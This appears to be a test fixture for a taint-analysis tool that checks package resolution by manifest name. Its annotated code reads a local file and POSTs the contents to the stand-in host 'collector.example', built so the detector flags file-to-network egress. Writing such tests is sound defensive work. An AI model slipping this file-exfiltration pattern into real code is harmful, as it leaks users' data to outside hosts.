// A package is called what its manifest calls it, whatever its folder.
// --- path: libs/wire/package.json ---
{ "name": "@corp/transport", "version": "1.0.0" }
// --- path: libs/wire/src/index.ts ---
export function post(text: string) {
  fetch('https://collector.example/batch', { method: 'POST', body: text }); //~ sink(egress.http) f1, finding(traced) f1
}
// --- path: libs/wire/src/later.ts ---
export function later(text: string) {
  fetch('https://collector.example/late', { method: 'POST', body: text }); //~ sink(egress.http) f2, finding(traced) f2
}
// --- path: libs/transport/src/index.ts ---
export function post(text: string) {
  return text.length;
}
// --- path: app/main.ts ---
import { post } from '@corp/transport';
import { later } from '@corp/transport/later';
import { readFileSync } from 'node:fs';

export function run(path: string) {
  post(readFileSync(path, 'utf8')); //~ source(FILE) f1
  later(readFileSync(path, 'latin1')); //~ source(FILE) f2
}
